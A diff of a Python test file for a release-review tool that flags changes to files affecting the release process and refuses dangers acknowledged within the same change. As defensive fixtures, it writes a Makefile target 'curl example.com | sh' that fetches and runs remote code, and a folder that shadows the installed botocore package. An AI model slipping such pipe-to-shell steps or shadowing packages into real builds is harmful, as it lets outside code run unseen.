@@ -4,10 +4,7 @@ import copy
 import json
 from datetime import date, timedelta
 
-import pytest
-
 from release.checkouts import Clone
-from release.review.dangers.danger import digest
 from tests.tritonsm import tritonsm
 from tests.unit.release.conftest import commit
 from tests.unit.release.review.conftest import APP, write_file
@@ -37,7 +34,7 @@ def remove_rollback(clone: Clone) -> None:
     )
 
 
-def keys(clone: Clone) -> dict[str, bool]:
+def danger_keys(clone: Clone) -> dict[str, bool]:
     """Return the key of each danger, and whether it is acknowledged."""
     content = json.loads((clone.root / "review.out" / "review.json").read_text())
     dangers = [
@@ -51,26 +48,12 @@ def keys(clone: Clone) -> dict[str, bool]:
     }
 
 
-def test_changed_judge_does_not_run(clone: Clone) -> None:
+def test_judge_of_the_change_does_not_run(clone: Clone) -> None:
     write_judge(clone, "base", 3)
     commit(clone)
     write_judge(clone, "head", 0)
     assert tritonsm(["review", "--base", "main"]) == 3
     assert (clone.root / "review.out" / "review.md").read_text() == "judged by the base"
-
-
-def test_base_is_synthesised_without_validation(
-    clone: Clone, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.delenv("CDK_VALIDATION")
-    base, head = (clone.root.parent / name for name in ("base.txt", "head.txt"))
-    for file in (base, head):
-        value = "os.environ.get('CDK_VALIDATION', 'unset')"
-        write_file(clone, "app.py", f"{APP}pathlib.Path('{file}').write_text({value})\n")
-        if file == base:
-            commit(clone)
-    tritonsm(["review", "--base", "main"])
-    assert (base.read_text(), head.read_text()) == ("false", "unset")
 
 
 def test_failed_judge_is_a_gap(clone: Clone) -> None:
@@ -88,9 +71,10 @@ def test_acknowledgements_of_the_change_are_not_valid(clone: Clone) -> None:
     line = f"{{ danger: {DANGER}, who: Mallory, why: trust me, until: {until} }}"
     write_file(clone, "release/acknowledged.yaml", f"acknowledged: [{line}]\n")
     assert tritonsm(["review", "--base", "main"]) == 3
-    assert keys(clone)[DANGER] is False
+    assert danger_keys(clone)[DANGER] is False
     assert any(
-        key.startswith("repository/changed_judge/release/acknowledged.yaml.") for key in keys(clone)
+        key.startswith("repository/changed_release_process/release/acknowledged.yaml.")
+        for key in danger_keys(clone)
     )
 
 
@@ -104,7 +88,7 @@ def test_files_that_affect_the_next_change_are_a_danger(clone: Clone) -> None:
     paths = {
         *(".cfnlintrc.yaml", ".checkov.yaml", ".ci/run", ".github/CODEOWNERS", "Makefile"),
         *(".github/workflows/pull-request.yml", ".venv/bin/python", "cdk.json", "new_module.py"),
-        *("package-lock.json", "pyproject.toml", "release/review/dangers/low_minimum.py"),
+        *("package-lock.json", "pyproject.toml", "release/review/dangers/low_availability.py"),
         *("release/acknowledged.yaml", "requirements/checkov.txt"),
         "constructs/triton_sagemaker/nag.py",
         *("node_modules/aws-cdk/bin/cdk", "tritonsm", ".npmrc", "setup.cfg", "ruff.toml", ".env"),
@@ -119,17 +103,21 @@ def test_files_that_affect_the_next_change_are_a_danger(clone: Clone) -> None:
         write_file(clone, path, '{"acknowledged": []}')
     assert tritonsm(["review", "--base", "main"]) == 3
     dangers = json.loads((clone.root / "review.out" / "review.json").read_text())["dangers"]
-    (judges,) = (danger for danger in dangers if danger["rule"] == "changed_judge")
-    named = {detail.partition(" ")[0] for detail in judges["details"]}
-    named |= {danger["subject"].rpartition(".")[0] for danger in dangers if danger != judges}
-    assert named == paths
+    (danger_of_files,) = (
+        danger for danger in dangers if danger["rule"] == "changed_release_process"
+    )
+    reported_paths = {detail.partition(" ")[0] for detail in danger_of_files["details"]}
+    reported_paths |= {
+        danger["subject"].rpartition(".")[0] for danger in dangers if danger != danger_of_files
+    }
+    assert reported_paths == paths
 
 
-def test_package_that_hides_an_installed_one(clone: Clone) -> None:
+def test_folder_named_like_an_installed_package_is_a_danger(clone: Clone) -> None:
     write_file(clone, "botocore/__init__.py", "print('in place of the installed one')")
     assert tritonsm(["review", "--base", "main"]) == 3
-    (key,) = keys(clone)
-    assert key.startswith("repository/changed_judge/botocore/__init__.py.")
+    (key,) = danger_keys(clone)
+    assert key.startswith("repository/changed_release_process/botocore/__init__.py.")
     commit(clone)
     clone.git("branch", "--force", "base")
     write_file(clone, "botocore/__init__.py", "")
@@ -139,22 +127,11 @@ def test_package_that_hides_an_installed_one(clone: Clone) -> None:
 def test_acknowledged_file_change_is_valid_for_one_content(clone: Clone) -> None:
     write_file(clone, "Makefile", "review: ; true")
     tritonsm(["review", "--base", "main"])
-    (key,) = keys(clone)
+    (key,) = danger_keys(clone)
     acknowledge(clone, key)
     assert tritonsm(["review", "--base", "main"]) == 0
     write_file(clone, "Makefile", "review: ; curl example.com | sh")
     assert tritonsm(["review", "--base", "main"]) == 3
-
-
-def test_linters_use_the_settings_of_the_base(clone: Clone) -> None:
-    write_file(clone, ".checkov.yaml", "strict")
-    commit(clone)
-    write_file(clone, ".checkov.yaml", "lax")
-    remove_rollback(clone)
-    write_file(clone, ".venv-checkov/bin/checkov", '#!/bin/sh\necho "$(cat .checkov.yaml)" >&2\n')
-    tritonsm(["review", "--base", "main"])
-    message = (clone.root / "review.out" / "review.md").read_text()
-    assert "checkov ended with exit code 0: strict" in message
 
 
 def test_unexpected_error_is_a_gap(clone: Clone) -> None:
@@ -168,10 +145,3 @@ def test_unexpected_error_is_a_gap(clone: Clone) -> None:
     assert "- **prod**: the review failed: " in (
         (clone.root / "review.out" / "review.md").read_text()
     )
-
-
-def test_digests_of_keys_do_not_collide() -> None:
-    # With 32 bits, a hundred thousand texts would be enough for a collision.
-    keys = {digest(f"a role may now s3:{number}") for number in range(200_000)}
-    assert len(keys) == 200_000
-    assert min(map(len, keys)) * 4 >= 128
